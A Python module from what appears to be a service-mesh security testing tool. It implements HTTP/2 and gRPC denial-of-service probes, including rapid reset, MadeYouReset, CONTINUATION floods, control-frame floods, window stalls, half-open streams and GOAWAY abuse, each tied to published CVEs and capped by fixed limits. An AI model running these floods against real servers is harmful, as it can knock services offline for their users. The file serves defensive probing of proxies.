"""Much of what is allowed, and much of what never ends: streams, resets, windows, frames.

Rapid reset: CVE-2023-44487; MadeYouReset: CVE-2025-8671; CONTINUATION: CVE-2024-30255
(nowotarski.info/http2-continuation-flood); control frames and windows: CVE-2019-9511 to 9518.
All are bounded: what they would cost an open mesh is seen long before a host feels it.
"""

from collections.abc import Callable, Iterator

from watertight.attack.raw_frames import (
    CONTINUATION,
    DATA,
    END_STREAM,
    GOAWAY,
    INITIAL_WINDOW_SIZE,
    PING,
    PRIORITY,
    WINDOW_UPDATE,
    block,
    data,
    frame,
    headers,
    reset,
    settings,
)
from watertight.attack.raw_frames import HEADERS as HEADERS_FRAME
from watertight.dataplane.attacks.rpc.strike import Aim, Strike, ballast

RESETS = 400
"""A connection; Envoy ends it after 250, servers after 20 to 1,000."""
RESET_CONNECTIONS = 3
FRAMES = 2_000
STALLED_STREAMS = 12
STALLED_BYTES = 400_000
"""A stream; to a server that answers with what it was asked, 5 MB in all. Above what a proxy keeps
of one stream before it stops to read it."""
SHORT_BYTES = 60_000
MOST_HALF_SAID = 48
MOST_HALF_OPEN = 600
"""On one connection, where the other side allows so many."""
SETTLE_SECONDS = 0.3
PIECE_SECONDS = 0.1


def floods() -> dict[str, tuple[Strike, ...]]:
    """Probe id → every way in which it is tried."""
    return {
        "grpc.resets": (
            Strike("a call that is reset in its midst", _reset_midway),
            Strike("a call that is reset while it is answered", _reset_late),
            Strike("rapid reset", _rapid_reset),
        ),
        "grpc.made-resets": tuple(_made_resets()),
        "grpc.half-open": (
            Strike("as many calls without an end as are taken at once", _half_open, starves=True),
            Strike("the same, each with half a message", _half_messages, starves=True),
        ),
        "grpc.window": (
            Strike("answers that nobody reads", _never_reads),
            Strike("a window of nothing", _no_window),
        ),
        "grpc.continuation": tuple(_continuations()),
        "grpc.control-frames": tuple(_control_frames()),
        "grpc.goaway": tuple(_leaving()),
    }


async def _reset_midway(aim: Aim) -> None:
    connection = await aim.connection()
    said = b""
    for _ in range(8):
        stream = connection.new_stream()
        said += headers(stream, aim.fields()) + data(stream, aim.body()[:2], end=False)
        said += reset(stream)
    await connection.send(said)


async def _reset_late(aim: Aim) -> None:
    connection = await aim.connection()
    streams = [connection.new_stream() for _ in range(8)]
    body = aim.body(ballast(SHORT_BYTES))
    await connection.send(
        b"".join(headers(s, aim.fields()) + data(s, body) for s in streams)
        + b"".join(map(reset, streams))
    )


async def _rapid_reset(aim: Aim) -> None:
    for _ in range(RESET_CONNECTIONS):
        connection = await aim.connection()
        said = b""
        for _ in range(RESETS):
            stream = connection.new_stream()
            said += headers(stream, aim.fields()) + reset(stream)
        await connection.send(said)
        await connection.listen(SETTLE_SECONDS / 3, lambda: False)


def _made_resets() -> Iterator[Strike]:
    """Each makes the server reset the stream, so that no count of the client's resets grows."""
    yield Strike("a message behind the end", _behind_the_end)
    for what, wrong in {
        "a window that grows by nothing": lambda s: frame(WINDOW_UPDATE, s, bytes(4)),
        "a window that overflows": lambda s: frame(WINDOW_UPDATE, s, b"\x7f\xff\xff\xff"),
        "a stream that depends on itself": lambda s: frame(PRIORITY, s, s.to_bytes(4) + b"\x10"),
    }.items():

        async def play(aim: Aim, wrong: Callable[[int], bytes] = wrong) -> None:
            connection = await aim.connection()
            streams = [connection.new_stream() for _ in range(RESETS // 2)]
            await connection.send(b"".join(headers(s, aim.fields()) for s in streams))
            await connection.listen(SETTLE_SECONDS, lambda: False)
            await connection.send(b"".join(map(wrong, streams)))
            await connection.listen(SETTLE_SECONDS / 3, lambda: False)
            await connection.close()  # and what was not reset yet, is now

        yield Strike(what, play)


async def _behind_the_end(aim: Aim) -> None:
    connection = await aim.connection()
    said = b""
    for _ in range(RESETS // 2):
        stream = connection.new_stream()
        said += headers(stream, aim.fields(), end=True) + frame(DATA, stream, b"x", END_STREAM)
    await connection.send(said)
    await connection.listen(SETTLE_SECONDS / 3, lambda: False)


async def _half_open(aim: Aim) -> None:
    connection = await aim.connection()
    count = min(connection.most_streams, MOST_HALF_OPEN)
    await connection.send(
        b"".join(headers(connection.new_stream(), aim.fields()) for _ in range(count))
    )
    await connection.listen(SETTLE_SECONDS, lambda: False)


async def _half_messages(aim: Aim) -> None:
    connection = await aim.connection()
    body = aim.body(ballast(SHORT_BYTES))[: SHORT_BYTES // 2]
    said = b""
    for _ in range(min(connection.most_streams, MOST_HALF_SAID)):
        stream = connection.new_stream()
        said += headers(stream, aim.fields()) + data(stream, body, end=False)
    await connection.send(said)
    await connection.listen(SETTLE_SECONDS, lambda: False)


async def _never_reads(aim: Aim) -> None:
    """It has given the widest windows for its streams, and none but the first for all of them."""
    await _stall(aim, {INITIAL_WINDOW_SIZE: 2**31 - 1})


async def _no_window(aim: Aim) -> None:
    await _stall(aim, {INITIAL_WINDOW_SIZE: 0})


async def _stall(aim: Aim, values: dict[int, int]) -> None:
    connection = await aim.connection(values, reads=False)
    body = aim.body(ballast(STALLED_BYTES))
    count = min(connection.most_streams, STALLED_STREAMS)
    streams = [connection.new_stream() for _ in range(count)]
    await connection.send(b"".join(headers(stream, aim.fields()) for stream in streams))
    # In pieces, each within the first window of a stream: an app that has read one gives room for
    # the next.
    for start in range(0, len(body), SHORT_BYTES):
        piece, end = body[start : start + SHORT_BYTES], start + SHORT_BYTES >= len(body)
        await connection.send(b"".join(data(stream, piece, end=end) for stream in streams))
        await connection.listen(PIECE_SECONDS, lambda: False)
    await connection.listen(SETTLE_SECONDS, lambda: False)


def _continuations() -> Iterator[Strike]:
    fields = block([("x-watertight", "x" * 900)])
    for what, part, count in (
        ("header blocks that never end", fields, 500),
        ("empty ones that never end", b"", FRAMES),
    ):

        async def play(aim: Aim, part: bytes = part, count: int = count) -> None:
            connection = await aim.connection()
            stream = connection.new_stream()
            said = frame(HEADERS_FRAME, stream, block(aim.fields()))
            await connection.send(said + frame(CONTINUATION, stream, part) * count)
            await connection.listen(SETTLE_SECONDS, lambda: False)

        yield Strike(what, play)


def _control_frames() -> Iterator[Strike]:
    for what, one in {
        "SETTINGS": settings({INITIAL_WINDOW_SIZE: 65_535}),
        "PING": frame(PING, payload=b"judged?!"),
        "PRIORITY": frame(PRIORITY, 1, bytes(4) + b"\x10"),
        "empty DATA": frame(DATA, 1),
        "WINDOW_UPDATE": frame(WINDOW_UPDATE, 1, (1).to_bytes(4)),
        "frames of unknown kinds": frame(0xBE, 1, b"x"),
    }.items():

        async def play(aim: Aim, one: bytes = one) -> None:
            connection = await aim.connection(reads=False)
            await connection.send(headers(connection.new_stream(), aim.fields()) + one * FRAMES)

        yield Strike(f"{FRAMES} {what}, and nothing read", play)


def _leaving() -> Iterator[Strike]:
    quiet, angry = (frame(GOAWAY, payload=bytes(4) + c.to_bytes(4)) for c in (0, 0xB))
    for what, before, count in (
        ("GOAWAY in the midst of calls", b"", 1),
        ("GOAWAY, and calls behind it", quiet, 0),
        ("GOAWAY a hundred times", angry, 100),
    ):

        async def play(aim: Aim, before: bytes = before, count: int = count) -> None:
            connection = await aim.connection()
            said = before
            for _ in range(8):
                stream = connection.new_stream()
                said += headers(stream, aim.fields()) + data(stream, aim.body())
            await connection.send(said + angry * count)
            await connection.listen(SETTLE_SECONDS, lambda: False)

        yield Strike(what, play)
